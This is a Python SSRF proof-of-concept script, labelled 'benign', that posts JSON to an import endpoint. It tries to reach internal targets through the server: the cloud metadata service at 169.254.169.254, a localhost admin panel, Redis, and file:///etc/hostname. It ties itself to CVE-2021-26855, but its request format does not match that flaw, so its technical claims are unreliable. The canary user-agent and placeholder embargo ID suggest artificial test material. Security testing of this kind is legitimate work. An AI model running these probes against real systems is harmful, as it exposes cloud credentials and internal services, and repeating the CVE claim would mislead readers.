#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
Benign proof of concept for EMB-2021-0001 (embargoed): the front-end
server-side request forgery of CVE-2021-26855, reduced to a reachability
check.

The vulnerable front end forwards a request to whatever back end the
client names and echoes part of the answer.  This script sends a handful
of internal URLs through it and reports which ones came back, so you can
check whether a test server is affected.  It never writes anything on the
server.  --dry-run prints the requests without sending them.

Only talks to the host you name on the command line.
"""

import argparse
import json
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

DEFAULT_PORT = 8443
DEFAULT_TIMEOUT = 10
USER_AGENT = "@@canary:ua@@"
IMPORT_PATH = "/ecp/proxylogon.js"
MAX_BODY = 65536

# internal targets we try to reach through the import feature
PROBES = [
    ("metadata", "http://169.254.169.254/latest/meta-data/", "ami-id"),
    ("localhost-admin", "http://127.0.0.1:8080/admin/", "Dashboard"),
    ("redis", "http://127.0.0.1:6379/", "-ERR"),
    ("file-scheme", "file:///etc/hostname", ""),
]

RED = "\033[31m"
GREEN = "\033[32m"
RESET = "\033[0m"


def log(msg, color=None):
    if color and sys.stdout.isatty():
        print(color + msg + RESET)
    else:
        print(msg)


def _build_base_url(host, port, use_tls):
    scheme = "https" if use_tls else "http"
    if port in (80, 443):
        return "%s://%s" % (scheme, host)
    return "%s://%s:%d" % (scheme, host, port)


def make_payload(internal_url, callback=None):
    # the front end expects a JSON document naming the back end
    data = {"source": internal_url, "format": "auto"}
    if callback is not None:
        data["notify"] = callback
    body = json.dumps(data, sort_keys=True)
    return body.encode("utf-8")


class Prober(object):
    """Sends probe requests and keeps track of what came back."""

    def __init__(self, base_url, timeout, token=None, verbose=False):
        self.base_url = base_url
        self.timeout = timeout
        self.token = token
        self.verbose = verbose
        self.results = []

    def headers(self):
        hdrs = {
            "User-Agent": USER_AGENT,
            "Content-Type": "application/json",
            "Accept": "application/json",
        }
        if self.token:
            hdrs["Authorization"] = "Bearer " + self.token
        return hdrs

    def send(self, payload):
        url = self.base_url + IMPORT_PATH
        req = urllib.request.Request(
            url, data=payload, headers=self.headers(), method="POST"
        )
        start = time.time()
        try:
            resp = urllib.request.urlopen(req, timeout=self.timeout)
            status = resp.status
            content = resp.read(MAX_BODY)
        except urllib.error.HTTPError as e:
            # errors are fine, the portal echoes the fetched body in them
            status = e.code
            content = e.read(MAX_BODY)
        except (urllib.error.URLError, OSError) as e:
            log("[-] request failed: %s" % e, RED)
            return None
        elapsed = time.time() - start
        if self.verbose:
            log("[*] %d bytes, status %d, %.2fs" % (len(content), status, elapsed))
        return status, content.decode("utf-8", errors="replace")

    def probe(self, name, internal_url, marker):
        payload = make_payload(internal_url)
        result = self.send(payload)
        if result is None:
            self.results.append((name, False))
            return False
        status, text = result
        found = bool(marker) and marker in text
        if not marker and status == 500 and "fetched" in text:
            found = True
        self.results.append((name, found))
        return found


def dry_run(base_url, probes, token=None):
    """Print what would be sent, without sending anything."""
    for name, internal_url, marker in probes:
        payload = make_payload(internal_url)
        print("POST %s%s" % (base_url, IMPORT_PATH))
        if token:
            print("Authorization: Bearer %s" % token)
        print(payload.decode("utf-8"))
        print("-- expect %r (%s)" % (marker, name))
        print()
    return 0


def parse_args(argv=None):
    parser = argparse.ArgumentParser(
        description="Check a test server for the SSRF of EMB-2021-0001"
    )
    parser.add_argument("host", help="target host name or address")
    parser.add_argument("-p", "--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--no-tls", action="store_true", help="use plain HTTP")
    parser.add_argument("--token", default=None, help="API token, if required")
    parser.add_argument(
        "--timeout", type=int, default=DEFAULT_TIMEOUT, help="seconds per request"
    )
    parser.add_argument("--only", default=None, help="comma separated probe names")
    parser.add_argument("--dry-run", action="store_true", help="print, do not send")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def select_probes(only):
    if not only:
        return list(PROBES)
    wanted = [w.strip() for w in only.split(",") if w.strip()]
    selected = []
    for entry in PROBES:
        if entry[0] in wanted:
            selected.append(entry)
    return selected


def main(argv=None):
    args = parse_args(argv)
    base_url = _build_base_url(args.host, args.port, use_tls=not args.no_tls)
    probes = select_probes(args.only)
    if not probes:
        log("[-] no probes selected", RED)
        return 2
    if args.dry_run:
        return dry_run(base_url, probes, token=args.token)

    log("[*] target: %s" % base_url)
    prober = Prober(base_url, args.timeout, token=args.token, verbose=args.verbose)
    hits = 0
    for name, internal_url, marker in probes:
        log("[*] probing %s via %s" % (name, internal_url))
        if prober.probe(name, internal_url, marker):
            log("[+] %s reachable through the import feature" % name, GREEN)
            hits += 1
        time.sleep(0.5)

    if hits > 0:
        log("[+] VULNERABLE: %d of %d probes came back" % (hits, len(probes)), GREEN)
        return 1
    log("[-] no probe came back; probably not vulnerable")
    return 0


if __name__ == "__main__":
    sys.exit(main())
